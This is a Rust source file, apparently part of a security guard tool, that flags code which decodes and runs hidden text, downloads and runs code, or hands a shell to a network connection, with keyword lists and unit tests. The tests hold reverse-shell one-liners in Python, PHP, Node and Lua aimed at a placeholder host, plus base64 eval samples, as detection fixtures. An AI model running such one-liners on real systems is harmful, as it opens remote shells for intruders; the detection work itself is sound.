//! Code that hides what it does: it decodes a text and runs it, or hands a shell to a connection. Seen by the words in
//! it, whatever the language; this only ever adds to what the reader of the language says.

use super::{Action, Actions};
use guardian_rules::EffectKind;

/// Functions that make a text readable.
const DECODES: &[&str] = &[
    "b64decode",
    "urlsafe_b64decode",
    "b32decode",
    "b16decode",
    "a85decode",
    "decodebytes",
    "decode_base64",
    "decode64",
    "strict_decode64",
    "base64_decode",
    "atob",
    "unhexlify",
    "fromhex",
    "fromCharCode",
    "decompress",
    "gzinflate",
    "gzuncompress",
    "str_rot13",
    "rot13",
    "rot_13",
    "loads",
    "unpack",
    "pack",
    "chr",
];

/// Functions that run a text.
const RUNS: &[&str] =
    &["eval", "exec", "Function", "instance_eval", "class_eval", "system", "popen", "assert", "execSync"];

/// Functions that fetch what an address names.
const FETCHES: &[&str] = &[
    "LWP",
    "getstore",
    "get",
    "urlopen",
    "urlretrieve",
    "requests",
    "URI",
    "open",
    "fetch",
    "curl_exec",
    "file_get_contents",
    "HTTP",
];

/// What opens a connection.
const CONNECTS: &[&str] = &[
    "socket",
    "Socket",
    "TCPSocket",
    "create_connection",
    "fsockopen",
    "stream_socket_client",
    "createConnection",
    "IO::Socket::INET",
    "sockaddr_in",
];

/// What hands a connection to a program.
const HANDS: &[&str] = &[
    "dup2",
    "spawn",
    "exec",
    "execve",
    "popen",
    "popen3",
    "Popen",
    "subprocess",
    "system",
    "proc_open",
    "execSync",
    "execute",
    "pty",
];

/// What reads standard input.
const READS: &[&str] = &["stdin", "STDIN", "input", "raw_input", "gets", "ARGF", "readline", "slurp", "fileinput"];

/// What runs a text that it is handed, and is no method (`pattern.exec(text)`).
const RUNS_TEXT: &[&str] = &["eval", "exec", "Function", "system", "popen", "execSync", "instance_eval", "class_eval"];

/// Whether the words of the code say that it runs what it reads from its input: then that is code.
pub(super) fn runs_input(code: &str) -> bool {
    let part = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let reads = code.split(|c| !part(c)).any(|word| READS.contains(&word))
        || ["<>", "open(0", "readFileSync(0"].iter().any(|read| code.contains(read));
    let runs = |name: &&str| {
        code.match_indices(*name).any(|(at, _)| {
            let before = code.get(..at).and_then(|before| before.chars().next_back());
            let behind = code.get(at + name.len()..).and_then(|behind| behind.chars().next());
            !before.is_some_and(|c| part(c) || c == '.' && *name == "exec") && !behind.is_some_and(part)
        })
    };
    reads && RUNS_TEXT.iter().any(runs)
}

/// Whether the words of the code say that it starts a program, whatever it takes its words from.
pub(super) fn starts(code: &str) -> bool {
    let part = |c: char| c.is_ascii_alphanumeric() || c == '_';
    code.split(|c| !part(c)).any(|word| RUNS.contains(&word) || HANDS.contains(&word))
}

/// Adds what the words of the code say.
pub(super) fn look(code: &str, actions: &mut Actions) {
    let word = |wanted: &[&str]| {
        code.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').any(|word| wanted.contains(&word))
    };
    let from_base64 = word(&["Buffer"]) && word(&["base64", "hex"]);
    if word(RUNS) && (word(DECODES) || from_base64) {
        actions.push(Action::on(EffectKind::Execute, "encoded code"));
    }
    let address = code.contains("http://") || code.contains("https://");
    if address && word(FETCHES) && word(RUNS) {
        actions.push(Action::on(EffectKind::Execute, "a download"));
    }
    // `require('net').connect(…)`
    let connects = word(CONNECTS) || word(&["net"]) && word(&["connect"]);
    if connects && word(HANDS) && word(&["sh", "bash", "zsh", "pty", "cmd"]) {
        actions.push(Action::on(EffectKind::Execute, "a download: commands from a connection"));
    }
}

#[cfg(test)]
mod tests {
    use super::{Actions, look};

    fn raises(code: &str) -> bool {
        let mut actions = Actions::default();
        look(code, &mut actions);
        !actions.list.is_empty()
    }

    #[test]
    fn code_that_runs_its_input_is_told_from_code_that_reads_it() {
        for code in [
            "import sys; exec(sys.stdin.read())",
            "exec(input())",
            "import os, sys; os.system(sys.stdin.read())",
            "eval join '', <STDIN>",
            "eval(require('fs').readFileSync(0))",
            "eval STDIN.read",
        ] {
            assert!(super::runs_input(code), "{code}");
        }
        for code in [
            "import sys, re; p = re.compile('x'); print([l for l in sys.stdin if p.match(l)])",
            "process.stdin.on('data', d => console.log(/x/.exec(d)))",
            "import sys, json; assert json.load(sys.stdin)",
            "import subprocess; subprocess.run(['ls'], stdin=None)",
            "exec('print(1)')",
            "print(evaluate(sys.stdin))",
        ] {
            assert!(!super::runs_input(code), "{code}");
        }
    }

    #[test]
    fn what_hides_is_told_from_what_prints() {
        for code in [
            "exec(__import__('base64').b64decode('eA=='))",
            "eval(Buffer.from('eA==', 'base64').toString())",
            "eval(base64_decode(\"eA==\"));",
            "s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
            "$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3\");",
            "require('net').connect(1, 'h', c => c.pipe(require('child_process').spawn('/bin/sh').stdin))",
            "s=require('socket').tcp(); s:connect('h', 1); os.execute('/bin/sh -i <&3')",
        ] {
            assert!(raises(code), "{code}");
        }
        for code in [
            "print(base64.b64decode('eA=='))",
            "s=socket.socket(); print(s.connect_ex(('localhost', 80)))",
            "require('net').connect(5432, 'localhost').on('connect', () => console.log('up'))",
            "subprocess.run(['ls'])",
            "eval('1+1')",
        ] {
            assert!(!raises(code), "{code}");
        }
    }
}
